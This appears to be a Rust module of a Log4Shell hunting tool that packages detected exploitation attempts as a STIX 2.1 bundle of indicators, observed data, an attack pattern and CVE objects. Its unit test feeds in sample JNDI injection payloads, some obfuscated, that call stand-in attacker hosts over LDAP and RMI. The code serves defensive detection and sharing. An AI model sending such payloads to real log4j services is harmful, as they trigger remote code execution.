//! A hunt as a STIX 2.1 bundle, ready to share or to attach to a vulnshare threat report:
//! one indicator per callback host (`[domain-name:value = '...']` / `[ipv4-addr:value = '...']`),
//! observed data with network traffic per source address, the attack pattern and the
//! vulnerabilities they point at, all under one `report` and one TLP 2.0 marking.
//!
//! The markings, ids and timestamps are the shared ones of [`vulnshare_formats::stix`], which the
//! server's TAXII collections use too.

use jiff::Timestamp;
use serde_json::{Value, json};
use vulnshare_core::tlp::Tlp;
pub use vulnshare_formats::stix::{
    TLP_2_CREATED, TLP_2_EXTENSION_ID, indicator_host, stix_time, tlp_marking, tlp_marking_id,
};
use vulnshare_formats::stix::{observable_id, pattern_literal, random_id};

use super::HitClass;
use super::output::{Tally, TargetTally};

/// The producer named when the user names none; it is described as a system, not an
/// organization.
pub const DEFAULT_PRODUCER: &str = "vulnshare hunt";

/// Who made the bundle, when, and how it may be shared.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StixOptions {
    /// The producer's name, for the `identity` object.
    pub producer: String,
    /// The sharing label of every object.
    pub tlp: Tlp,
    /// The time of the bundle (also `first_observed`, as logs carry no common time format).
    pub created: Timestamp,
}

fn host_description(host: &str, target: &TargetTally) -> String {
    let mut text = format!(
        "Log4Shell callback host {host} named in {} exploitation attempt(s)",
        target.hits
    );
    let protocols = target.protocols();
    if !protocols.is_empty() {
        text.push_str(&format!("; JNDI protocols {}", protocols.join(", ")));
    }
    let ports = target.ports();
    if !ports.is_empty() {
        let ports: Vec<String> = ports.iter().map(u16::to_string).collect();
        text.push_str(&format!("; ports {}", ports.join(", ")));
    }
    let leaks = target.exfiltration();
    if !leaks.is_empty() {
        text.push_str(&format!("; exfiltrates {}", leaks.join(", ")));
    }
    text
}

/// Builds the bundle for a hunt's tally.
pub fn bundle(tally: &Tally, options: &StixOptions) -> Value {
    let now = stix_time(options.created);
    let marking = tlp_marking_id(options.tlp);
    let identity_id = random_id("identity");
    // Common properties of every object the hunt creates.
    let sdo = |kind: &str, id: &str, mut body: Value| {
        let object = body.as_object_mut().expect("objects are JSON objects");
        object.insert("type".into(), kind.into());
        object.insert("spec_version".into(), "2.1".into());
        object.insert("id".into(), id.into());
        object.insert("created".into(), now.clone().into());
        object.insert("modified".into(), now.clone().into());
        object.insert("created_by_ref".into(), identity_id.clone().into());
        object.insert("object_marking_refs".into(), json!([marking]));
        body
    };
    let mut objects = vec![tlp_marking(options.tlp)];
    let mut identity = sdo(
        "identity",
        &identity_id,
        json!({
            "name": options.producer,
            "identity_class": if options.producer == DEFAULT_PRODUCER { "system" } else { "organization" },
        }),
    );
    identity.as_object_mut().unwrap().remove("created_by_ref");
    objects.push(identity);
    let mut reported = Vec::new();

    let attack_pattern_id = random_id("attack-pattern");
    objects.push(sdo(
        "attack-pattern",
        &attack_pattern_id,
        json!({
            "name": "Log4Shell JNDI lookup injection",
            "description": "Attacker text with a log4j 2 lookup (${jndi:...}, possibly obfuscated) reaches a log call, so the victim fetches and runs remote code or leaks data in DNS names.",
            "external_references": [{
                "source_name": "mitre-attack",
                "external_id": "T1190"
            }]
        }),
    ));
    reported.push(attack_pattern_id.clone());
    let mut cves = vec!["CVE-2021-44228"];
    if tally.class_hits(HitClass::RecursionDos) > 0 {
        cves.push("CVE-2021-45105");
    }
    for cve in cves {
        let vulnerability_id = random_id("vulnerability");
        objects.push(sdo(
            "vulnerability",
            &vulnerability_id,
            json!({"name": cve, "external_references": [{"source_name": "cve", "external_id": cve}]}),
        ));
        let relationship_id = random_id("relationship");
        objects.push(sdo(
            "relationship",
            &relationship_id,
            json!({"relationship_type": "targets", "source_ref": attack_pattern_id, "target_ref": vulnerability_id}),
        ));
        reported.extend([vulnerability_id, relationship_id]);
    }

    for (host, target) in tally.targets() {
        let Some((kind, value)) = indicator_host(host) else {
            continue;
        };
        let indicator_id = random_id("indicator");
        objects.push(sdo(
            "indicator",
            &indicator_id,
            json!({
                "name": format!("Log4Shell callback {value}"),
                "description": host_description(host, target),
                "indicator_types": ["malicious-activity"],
                "pattern": format!("[{kind}:value = {}]", pattern_literal(&value)),
                "pattern_type": "stix",
                "pattern_version": "2.1",
                "valid_from": now,
            }),
        ));
        let relationship_id = random_id("relationship");
        objects.push(sdo(
            "relationship",
            &relationship_id,
            json!({"relationship_type": "indicates", "source_ref": indicator_id, "target_ref": attack_pattern_id}),
        ));
        reported.extend([indicator_id, relationship_id]);
    }

    for (ip, hits) in tally.sources() {
        let kind = if ip.is_ipv4() {
            "ipv4-addr"
        } else {
            "ipv6-addr"
        };
        let address_id = observable_id(kind, &json!({"value": ip.to_string()}));
        let traffic_id = observable_id(
            "network-traffic",
            &json!({"protocols": ["tcp"], "src_ref": address_id}),
        );
        objects.push(json!({
            "type": kind, "spec_version": "2.1", "id": address_id, "value": ip.to_string(),
            "object_marking_refs": [marking],
        }));
        objects.push(json!({
            "type": "network-traffic", "spec_version": "2.1", "id": traffic_id,
            "src_ref": address_id, "protocols": ["tcp"], "object_marking_refs": [marking],
        }));
        let observed_id = random_id("observed-data");
        objects.push(sdo(
            "observed-data",
            &observed_id,
            json!({
                "first_observed": now,
                "last_observed": now,
                "number_observed": hits.clamp(1, 999_999_999),
                "object_refs": [address_id, traffic_id],
            }),
        ));
        reported.push(observed_id);
    }

    let report_id = random_id("report");
    let classes: Vec<String> = tally
        .hits_per_class()
        .iter()
        .map(|(class, n)| format!("{class} {n}"))
        .collect();
    objects.push(sdo(
        "report",
        &report_id,
        json!({
            "name": format!("Log4Shell exploitation attempts: {} hit(s)", tally.hits()),
            "description": format!(
                "Found by vulnshare hunt: {}; {} callback host(s), {} source address(es).",
                classes.join(", "), tally.distinct_targets(), tally.distinct_sources()
            ),
            "report_types": ["threat-report"],
            "published": now,
            "object_refs": reported,
        }),
    ));
    json!({"type": "bundle", "id": random_id("bundle"), "objects": objects})
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hunt::Hunter;
    use uuid::Uuid;

    fn tally(lines: &[&str]) -> Tally {
        let mut tally = Tally::default();
        for line in lines {
            for hit in Hunter::default().scan_line(line.as_bytes()) {
                tally.record("t.log", &hit);
            }
        }
        tally
    }

    #[test]
    fn bundle_shape() {
        let tally = tally(&[
            r#"203.0.113.7 - - [10/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://evil.example:1389/a}""#,
            "${jndi:rmi://198.51.100.9/x}",
            "${${::-${::-$${::-j}}}}",
        ]);
        let options = StixOptions {
            producer: "Example SOC".into(),
            tlp: Tlp::Amber,
            created: "2026-11-23T11:27:18.5Z".parse().unwrap(),
        };
        let bundle = bundle(&tally, &options);
        let objects = bundle["objects"].as_array().unwrap();
        let of = |kind: &'static str| objects.iter().filter(move |o| o["type"] == kind);
        let patterns: Vec<&str> = of("indicator")
            .map(|o| o["pattern"].as_str().unwrap())
            .collect();
        assert_eq!(
            patterns,
            [
                "[ipv4-addr:value = '198.51.100.9']",
                "[domain-name:value = 'evil.example']"
            ]
        );
        assert_eq!(of("observed-data").count(), 1);
        assert_eq!(of("vulnerability").count(), 2);
        let marking = of("marking-definition").next().unwrap();
        assert_eq!(marking["id"], tlp_marking_id(Tlp::Amber));
        assert_eq!(
            marking["extensions"][TLP_2_EXTENSION_ID]["tlp_2_0"],
            "amber"
        );
        for object in objects {
            let id = object["id"].as_str().unwrap();
            let (kind, uuid) = id.split_once("--").unwrap();
            assert_eq!(kind, object["type"]);
            assert!(Uuid::parse_str(uuid).is_ok());
            if object["type"] != "marking-definition" {
                assert_eq!(object["object_marking_refs"][0], tlp_marking_id(Tlp::Amber));
            }
            if let Some(created) = object.get("created") {
                assert_eq!(created.as_str().unwrap().len(), 24, "{created}");
            }
        }
        let report = of("report").next().unwrap();
        assert_eq!(report["created"], "2026-11-23T11:27:18.500Z");
        assert!(report["object_refs"].as_array().unwrap().len() >= 8);
    }
}
